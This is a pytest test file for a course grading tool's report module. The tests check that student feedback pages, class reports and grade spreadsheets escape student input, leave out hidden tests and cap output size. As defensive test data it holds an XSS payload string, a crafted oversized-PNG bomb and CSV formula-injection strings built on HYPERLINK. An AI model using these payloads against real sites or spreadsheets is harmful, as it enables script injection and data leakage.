"""What people read of a grading: nothing of a student's acts on a page, nothing hidden is shown, and the numbers are right."""

import base64
import csv
import io
import json
import re
import struct
import zlib
from copy import deepcopy
from html.parser import HTMLParser
from itertools import pairwise

import nbformat
import pytest
from matplotlib.figure import Figure
from nbformat import v4

from vaecourse.grading.authoring import forms, trials
from vaecourse.grading.authoring.assignment import HIDDEN, REGION, SOLUTION, with_answer
from vaecourse.grading.course import reports
from vaecourse.grading.marking.marks import Mark, Marks


@pytest.fixture(scope="module")
def assignment():
    return next(assignment for assignment in forms.assignments() if assignment.slug == "07_vae")


@pytest.fixture(scope="module")
def source(assignment):
    return forms.source(assignment)


@pytest.fixture
def notebook(source):
    """A student's executed notebook: stubs in the answers; test cells whole, with the traceback that an executed one has."""
    stubs = {cell.id: cell.source for cell in forms.student(source).cells}
    notebook = deepcopy(source)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = stubs[cell.id]
        elif trials.is_test(cell):
            cell.outputs = [v4.new_output("error", ename="Mistake", evalue="m", traceback=["in the test:", cell.source])]
    return notebook


@pytest.fixture
def give(assignment):
    """Marks of a student: all points, except where cells are given another number or (number, message, mistake)."""

    def give(student="ana", notes=(), **cells):
        marks = []
        for cell in assignment.cells:
            if cell.kind in {"test", "answer"}:
                earned, *rest = cells[cell.id] if isinstance(cells.get(cell.id), tuple) else (cells.get(cell.id, cell.points),)
                marks.append(Mark(cell.id, cell.exercise, cell.points, None if earned is None else float(earned), *rest))
        return Marks(assignment.slug, student, tuple(marks), tuple(notes))

    return give


PENDING = {"measure_c": None, "conclude_c": None}


def cell(notebook, name):
    return next(cell for cell in notebook.cells if cell.id == name)


class Page(HTMLParser):
    """The tags of a page with their attributes, and its text, one space between words."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(html)
        self.close()
        self.text = " ".join(self.text.split())

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_endtag(self, tag):
        self.text += " " if tag in {"td", "th", "dt", "dd"} else ""

    def handle_data(self, data):
        self.text += data if self.tags and self.tags[-1][0] != "style" else ""


def png(width=30, height=20):
    file, figure = io.BytesIO(), Figure(figsize=(width / 10, height / 10), dpi=10)
    figure.savefig(file, format="png")
    return file.getvalue()


def encoded(data):
    return base64.b64encode(data).decode()


# A student's page


def test_feedback_says_the_points_the_verdicts_and_the_messages_and_shows_the_own_code(assignment, notebook, give):
    cell(notebook, "gaussian_kl").source = "def gaussian_kl(mu, log_sigma):\n    return 42 * my_idea(mu)"
    message = "KL[0] is 9 nats, expected 2: the -1 is missing."
    marks = give("ana", gaussian_kl_visible=(0, message, "no_minus_one"), gaussian_kl_hidden=(0, "KL is wrong."), **PENDING)
    page = Page(reports.feedback(marks, notebook, assignment))
    assert "Feedback for ana" in page.text and assignment.title in page.text
    assert "29 of 40 points" in page.text and "A person has yet to read answers worth 7 points" in page.text
    for number, exercise in enumerate(assignment.exercises, 1):
        assert f"Exercise {number}: {exercise.title}" in page.text
    assert f"✗ Not yet · Visible tests 0 of 1 point {message} ✗ Not yet · Hidden tests 0 of 3 points KL is wrong." in page.text
    assert "✓ Passed · Hidden tests 3 of 3 points" in page.text
    assert "… Yet to be read · Text, read by a person 4 points pending" in page.text
    assert "return 42 * my_idea(mu)" in page.text


def test_feedback_shows_the_points_and_the_words_of_a_person(assignment, notebook, give):
    marks = give(measure_c=1.5, conclude_c=0)
    page = Page(reports.feedback(marks, notebook, assignment, {"measure_c": "Stops too early.", "gaussian_kl": "Well done."}))
    assert "Stops too early." in page.text and "Well done." in page.text
    assert "◐ Partly · Code, read by a person 1.5 of 3 points" in page.text
    assert "✗ No points · Text, read by a person 0 of 4 points" in page.text
    assert "34.5 of 40 points" in page.text and "6.5 of 12" in page.text
    assert "pending" not in page.text and "yet to read" not in page.text


def test_feedback_tells_what_happened_to_a_file_that_is_no_notebook(assignment, give):
    nothing = {cell.id: 0 for cell in assignment.cells if cell.points}
    marks = give(notes=["07_vae.ipynb is no notebook: it is not JSON.", "Hand in the file that Jupyter saves."], **nothing)
    page = Page(reports.feedback(marks, None, assignment))
    assert all(note in page.text for note in marks.notes) and "0 of 40 points" in page.text
    assert "Not yet" not in page.text  # no test was run


def test_feedback_shows_no_test_no_solution_no_traceback_of_a_test(assignment, source, notebook, give):
    html = reports.feedback(give(gaussian_kl_hidden=(0, "KL is wrong.")), notebook, assignment)
    text = Page(html).text
    assert not any(mark in text for mark in (*SOLUTION, *HIDDEN)) and "in the test:" not in text
    for written in source.cells:
        if trials.is_test(written):
            lines = written.source.splitlines()
        elif written.metadata.get("nbgrader", {}).get("solution"):
            lines = [line for _, solution in REGION.findall(written.source) for line in solution.splitlines()]
        else:
            continue
        for line in lines:
            assert len(line.strip()) < 12 or " ".join(line.split()) not in text


def test_feedback_shows_no_locked_cell_that_calls_itself_an_answer(assignment, notebook, give):
    forged = v4.new_code_cell("a second gaussian_kl", metadata={"nbgrader": {"grade_id": "gaussian_kl", "solution": True}})
    test = v4.new_code_cell(
        "the test, said to be an answer", metadata={"nbgrader": {"grade_id": "bernoulli_hidden", "solution": True}}
    )
    notebook.cells += [forged, test]
    text = Page(reports.feedback(give(), notebook, assignment)).text
    assert "a second" not in text and "said to be" not in text


ATTACK = "</pre></code></style><script>alert(1)</script><img src=x onerror=alert(2)><a href='https://example.org/'>&lt;"


def test_nothing_of_a_student_s_becomes_markup(assignment, notebook, give):
    safe = Page(reports.feedback(give(gaussian_kl_visible=(0, "m"), notes=["n"]), notebook, assignment, {"conclude_c": "c"}))
    hostile = give(f"ana{ATTACK}", [ATTACK], gaussian_kl_visible=(0, ATTACK))
    cell(notebook, "gaussian_kl").source = f"x = '''{ATTACK}'''\n# {ATTACK}\n{ATTACK}"
    cell(notebook, "conclude_c").source = ATTACK
    answer = cell(notebook, "measure_c")
    answer.source = f'"{ATTACK}"'
    answer.outputs = [
        v4.new_output("stream", text=ATTACK),
        v4.new_output("error", ename=ATTACK, evalue=ATTACK, traceback=[f"\x1b[31m{ATTACK}\x1b[0m"]),
        v4.new_output("display_data", data={"text/html": "<b>HTML</b>", "text/plain": ATTACK}),
        v4.new_output("display_data", data={"image/svg+xml": "<svg onload='alert(3)'/>", "text/plain": "an svg"}),
        v4.new_output("display_data", data={"application/javascript": "alert(4)", "text/markdown": "[a](javascript:alert(5))"}),
        v4.new_output("display_data", data={"image/png": encoded(b"<svg onload='alert(6)'/>"), "text/plain": "no png"}),
        v4.new_output("display_data", data={"image/png": f'"><script>{ATTACK}', "text/plain": "no base64"}),
    ]
    html = reports.feedback(hostile, notebook, assignment, {"conclude_c": ATTACK})
    page = Page(html)
    assert {tag for tag, _ in page.tags} - {tag for tag, _ in safe.tags} == set()
    assert not any(name.startswith("on") for _, attributes in page.tags for name in attributes)
    assert all(attributes["href"].startswith("#") for tag, attributes in page.tags if tag == "a")
    assert not {"script", "img", "svg", "iframe", "object", "link"} & {tag for tag, _ in page.tags}
    assert page.text.count("<script>alert(1)</script>") >= 9  # it is all there, as text
    assert "an svg" in page.text and "no png" in page.text and "no base64" in page.text
    assert "HTML" not in page.text and "alert(3)" not in html and "alert(4)" not in html and "alert(5)" not in html
    assert "default-src 'none'" in html


def test_a_page_shows_the_pictures_that_are_pictures(assignment, notebook, give):
    cell(notebook, "measure_c").outputs = [
        v4.new_output("display_data", data={"image/png": encoded(png()), "text/plain": '<Figure "of" mine>'}),
        v4.new_output("display_data", data={"image/jpeg": encoded(png()), "text/plain": "a PNG called JPEG"}),
    ]
    page = Page(reports.feedback(give(), notebook, assignment))
    ((_, picture),) = [tag for tag in page.tags if tag[0] == "img"]
    assert base64.b64decode(picture["src"].removeprefix("data:image/png;base64,")) == png()
    assert picture["alt"] == 'A picture that your code drew: <Figure "of" mine>'
    assert "a PNG called JPEG" in page.text


def bomb(side):
    """A PNG of a few bytes that says it has side x side pixels."""
    header = b"IHDR" + struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header)) + png()[33:]


HARMFUL = {"bomb": bomb(100_000), "large": bomb(5_000), "heavy": png() + bytes(3_000_000), "cut": png()[:-20], "empty": b""}


@pytest.mark.parametrize("data", HARMFUL.values(), ids=HARMFUL)
def test_a_picture_that_would_harm_the_reader_is_left_out(assignment, notebook, give, data):
    cell(notebook, "measure_c").outputs = [
        v4.new_output("display_data", data={"image/png": encoded(data), "text/plain": "words"})
    ]
    page = Page(reports.feedback(give(), notebook, assignment))
    assert "img" not in {tag for tag, _ in page.tags} and "words" in page.text


def test_long_outputs_are_cut_in_the_middle_and_floods_counted(assignment, notebook, give):
    answer = cell(notebook, "measure_c")
    answer.source = "\n".join(f"line{i}" for i in range(10_000))
    answer.outputs = [v4.new_output("stream", text="begin " + "x" * 10_000_000 + " end")]
    answer.outputs += [v4.new_output("stream", text="\n" * 1_000_000), v4.new_output("error", traceback=["y" * 1_000_000])]
    answer.outputs += [v4.new_output("display_data", data={"text/plain": f"output {i}"}) for i in range(500)]
    html = reports.feedback(give(), notebook, assignment)
    page = Page(html)
    assert len(html) < 300_000
    assert "line0 " in page.text and "line9999" in page.text and "characters left out …" in page.text
    assert "begin x" in page.text and "482 more outputs left out." in page.text


def test_code_that_is_slow_to_color_is_shown_plain(assignment, notebook, give):
    cell(notebook, "gaussian_kl").source = f"x = '<b>'; {'a.' * 9_000}"
    html = reports.feedback(give(), notebook, assignment)
    assert f"x = &#39;&lt;b&gt;&#39;; {'a.' * 9_000}" in html


def test_a_page_has_no_terminal_codes_and_no_invisible_characters(assignment, notebook, give):
    answer = cell(notebook, "measure_c")
    answer.outputs = [
        v4.new_output("stream", text="\x1b[1;31mred\x1b[0m \x1b]0;title\x07 10 %\r 50 %\r100 %\nprinted in "),
        v4.new_output("stream", text="two pieces \x00\x08\x9b nul\u202etxet"),
    ]
    answer.outputs[1].text += json.loads('" \\ud800 half"')  # half of a character: it cannot be written as UTF-8
    html = reports.feedback(give("a\u202eb\x1b[2Jc\ud800"), notebook, assignment)
    text = Page(html).text
    html.encode("utf-8")
    assert "100 % printed in two pieces nultxet half" in text and "50 %" not in text and "title" not in text
    assert "Feedback for abc" in text and not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", html)


def test_outputs_that_break_the_notebook_format_break_no_page(assignment, notebook, give):
    cell(notebook, "measure_c").outputs = nbformat.from_dict(
        [
            {"output_type": "stream", "text": 7},
            {"output_type": "error"},
            {"output_type": "display_data", "data": {"image/png": {"a": 1}, "text/plain": ["in ", "pieces"]}},
            {"output_type": "display_data"},
            {"output_type": "unheard of"},
            {},
        ]
    )
    assert "in pieces" in Page(reports.feedback(give(), notebook, assignment)).text


def test_marks_of_another_assignment_are_refused(assignment, notebook, give):
    other = Marks("08_other", "ana", give().marks)
    gone = Marks("07_vae", "ana", (Mark("gone", "gaussian_kl", 1, 1.0),))
    for marks in (other, gone):
        with pytest.raises(ValueError, match="grade the submission again"):
            reports.feedback(marks, notebook, assignment)


# Both pages


@pytest.fixture(params=["feedback", "class"])
def html(request, assignment, notebook, give):
    if request.param == "feedback":
        return reports.feedback(give(notes=["n"], gaussian_kl_visible=(0, "m")), notebook, assignment, {"measure_c": "c"})
    made = (0, "the factor 1/2 is missing", "no_half")
    return reports.class_report(
        assignment, [give(notes=["n"], gaussian_kl_visible=made), give("ben", iwae_bound_visible=(0, "m"))]
    )


def test_a_page_can_be_read_aloud_and_on_a_phone(html):
    page = Page(html)
    assert ("html", {"lang": "en"}) in page.tags
    assert any(attributes.get("name") == "viewport" for tag, attributes in page.tags if tag == "meta")
    levels = [int(tag[1]) for tag, _ in page.tags if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(after <= before + 1 for before, after in pairwise(levels))
    assert all(attributes.get("scope") in {"row", "col"} for tag, attributes in page.tags if tag == "th")
    assert all(attributes.get("alt") for tag, attributes in page.tags if tag == "img")
    assert all(attributes.get("aria-label") and attributes["role"] == "img" for tag, attributes in page.tags if tag == "svg")
    ids = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
    assert len(ids) == len(set(ids))


def test_a_page_asks_the_network_for_nothing(html):
    assert not re.search(r"https?:|//[a-z]|@import|url\(", html)


# The class


def text_of_class(assignment, all_marks):
    return Page(reports.class_report(assignment, all_marks)).text


def test_a_class_report_counts_what_was_earned(assignment, give):
    half = {cell.id: 0 for cell in assignment.cells if cell.points} | {"linear_gap_hidden": 4, "conclude_c": 4}
    nothing = dict.fromkeys(half, 0)
    all_marks = [
        give("cy", **half),
        give("ana"),
        give("dee", **nothing),
        give("ben", conclude_c=0, measure_c=0, iwae_bound_visible=0, most_saved_hidden=0),
    ]
    html = reports.class_report(assignment, all_marks)
    text = Page(html).text
    # Of 40 points they have 8, 40, 0, 31: 20, 100, 0, 77.5 %.
    assert "Submissions 4 Mean 49 % Median 49 % Quartiles 15 to 83 %" in text
    assert "0 to 10 %: 1, 10 to 20 %: 0, 20 to 30 %: 1," in html and "70 to 80 %: 1, 80 to 90 %: 0, 90 to 100 %: 1." in html
    assert "1. What a code costs 4 50 % 2 of 4 –" in text
    assert "5. A sharper ruler 4 44 % 1 of 4 –" in text
    assert "hardest exercise was “The constant that decides whether anything is learned”: on average 42 %" in text
    assert re.search(r"Below half of the points Student Share Points Pending dee 0 % 0 of 40 – cy 20 % 8 of 40 –$", text)


def test_pending_points_count_neither_for_nor_against(assignment, give):
    text = text_of_class(assignment, [give("ana", **PENDING), give("ben", best_variance_hidden=0)])
    assert f"Mean {50 * (1 + 38 / 40):.0f} %" in text and "yet to read answers in 1 submission: all shares" in text
    assert "is learned 12 92 % 0 of 1 1" in text and "Below half of the points Nobody." in text
    unread = {cell.id: None for cell in assignment.cells if cell.points}
    assert "No points have been given yet." in text_of_class(assignment, [give(**unread)])


def test_known_mistakes_are_counted_once_a_student_and_others_by_message(assignment, source):
    stub = {cell.id: cell.source for cell in forms.student(source).cells}["linear_gap"]
    all_marks = []
    for student, wrong in [("ana", ["no_half"]), ("ben", ["no_half"]), ("cy", ["sign"]), ("dee", [])]:
        notebook = deepcopy(source)
        for answer in assignment.exercises[0].wrong:
            if answer.name in wrong:
                kl = cell(notebook, "gaussian_kl")
                kl.source = with_answer(kl.source, answer.code)
        if student in {"cy", "dee"}:
            cell(notebook, "linear_gap").source = stub
        errors = trials.run(notebook)
        marks = []
        for graded in assignment.cells:
            if graded.kind == "test":
                error = errors[graded.id]
                mistake = next((name for name in wrong if error and graded.id.startswith("gaussian_kl")), "")
                words = "nothing is written here yet" if error and error.kind == "NotImplementedError" else str(error or "")
                marks.append(
                    Mark(graded.id, graded.exercise, graded.points, 0.0 if error else float(graded.points), words, mistake)
                )
        all_marks.append(Marks(assignment.slug, student, tuple(marks)))
    text = text_of_class(assignment, all_marks)
    no_half, sign = ("no_half What a code costs the factor 1/2 is missing", "sign What a code costs the sign is reversed.")
    assert 0 < text.index(no_half) < text.index(sign)
    assert "this is twice the divergence. 2, 50 %" in text and "it is subtracted. 1, 25 %" in text
    assert "Exercise Message Students The price of independence nothing is written here yet 2 Submissions" in text


def test_a_class_report_lists_the_submissions_to_look_at(assignment, give):
    text = text_of_class(
        assignment, [give("zoe", ["It was stopped after 300 s.", "A test was restored."]), give("ana", ["Late."])]
    )
    assert "Student What happened ana Late. zoe It was stopped after 300 s. A test was restored." in text


def test_a_class_report_works_for_nobody_for_one_and_for_hundreds(assignment, give):
    assert "No submissions yet." in text_of_class(assignment, [])
    one = text_of_class(assignment, [give()])
    assert "Submissions 1 Mean 100 %" in one and "No exercise has cost anyone a point." in one
    many = [give(f"student{i:03}", bernoulli_hidden=(0, f"message {i % 100:02}")) for i in range(500)]
    text = text_of_class(assignment, many)
    assert "Submissions 500" in text and "3. Black or white 5 40 % 0 of 500 –" in text
    assert "message 14 5" in text and "message 15" not in text  # the most frequent only, ties in the order of the alphabet


def test_nothing_of_a_student_s_becomes_markup_in_a_class_report(assignment, give):
    page = Page(reports.class_report(assignment, [give(ATTACK, [ATTACK], iwae_bound_visible=(0, ATTACK))]))
    assert not {"script", "img", "a", "iframe"} & {tag for tag, _ in page.tags}
    assert page.text.count("<script>alert(1)</script>") == 3  # the student, the note, the message


# The grades


def rows(text):
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_grades_have_one_row_a_student_and_blanks_where_nothing_was_handed_in(assignment, give):
    other = type(assignment)(assignment.folder.with_name("08_other"), "Other", assignment.cells, assignment.exercises)
    late = Marks("08_other", "ben", give().marks)
    ana, ben = rows(
        reports.grades({"07_vae": [give("ana", **PENDING, iwae_bound_hidden=0)], "08_other": [late]}, [assignment, other])
    )
    assert list(ana)[:3] == ["student", "07_vae", "07_vae gaussian_kl"]
    assert list(ana)[8:13] == ["07_vae best_variance", "07_vae pending", "07_vae notes", "08_other", "08_other gaussian_kl"]
    assert (ana["student"], ana["07_vae"], ana["07_vae iwae_bound"], ana["07_vae best_variance"]) == ("ana", "30", "1", "5")
    assert (ana["07_vae pending"], ana["07_vae notes"], ana["08_other"], ana["08_other pending"]) == ("7", "", "", "")
    assert (ben["student"], ben["07_vae"], ben["07_vae pending"], ben["08_other"], ben["08_other pending"]) == (
        "ben",
        "",
        "",
        "40",
        "0",
    )


def test_grades_tell_zero_points_from_points_that_are_pending(assignment, give):
    unread = {cell.id: None for cell in assignment.cells if cell.exercise == "best_variance" and cell.points}
    nothing = {cell.id: 0 for cell in assignment.cells if cell.points}
    ana, ben, cy = rows(
        reports.grades(
            {"07_vae": [give("ana", **unread), give("ben", ["It is no notebook."], **nothing), give("cy", conclude_c=0.5)]},
            [assignment],
        )
    )
    assert ana["07_vae best_variance"] == "" and ana["07_vae pending"] == "12"
    assert (ben["07_vae"], ben["07_vae best_variance"], ben["07_vae notes"]) == ("0", "0", "It is no notebook.")
    assert (cy["07_vae"], cy["07_vae best_variance"], cy["07_vae pending"]) == ("36.5", "8.5", "0")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "  =", "\x00=", "＝"])
def test_no_text_becomes_a_formula_in_a_spreadsheet(assignment, give, start):
    hostile = f'{start}HYPERLINK("https://example.org/?"&A1,"x")\r\n=1+1,"'
    (row,) = rows(reports.grades({"07_vae": [give(hostile, [hostile])]}, [assignment]))
    for text in (row["student"], row["07_vae notes"]):
        assert text.startswith(f"'{start.strip(chr(0)).strip()}HYPERLINK") and "\n" not in text and "\r" not in text
    (row,) = rows(reports.grades({"07_vae": [give("chloé-2", ["1 = 1, “-”"])]}, [assignment]))
    assert (row["student"], row["07_vae notes"]) == ("chloé-2", "1 = 1, “-”")


def test_grades_of_nobody_are_a_header_and_mixed_up_marks_are_refused(assignment, give):
    assert rows(reports.grades({}, [assignment])) == [] and "07_vae pending" in reports.grades({}, [assignment])
    with pytest.raises(ValueError, match="twice"):
        reports.grades({"07_vae": [give(), give()]}, [assignment])
    with pytest.raises(ValueError, match="no such assignment"):
        reports.grades({"09_none": [give()]}, [assignment])


def test_the_same_marks_give_the_same_bytes_in_any_order(assignment, notebook, give):
    marks = [give(name, iwae_bound_hidden=(0, f"m{i % 2}", ""), **PENDING) for i, name in enumerate("bdac")]
    assert reports.feedback(marks[0], notebook, assignment) == reports.feedback(marks[0], deepcopy(notebook), assignment)
    assert reports.class_report(assignment, marks) == reports.class_report(assignment, marks[::-1])
    assert reports.grades({"07_vae": marks}, [assignment]) == reports.grades({"07_vae": marks[::-1]}, [assignment])
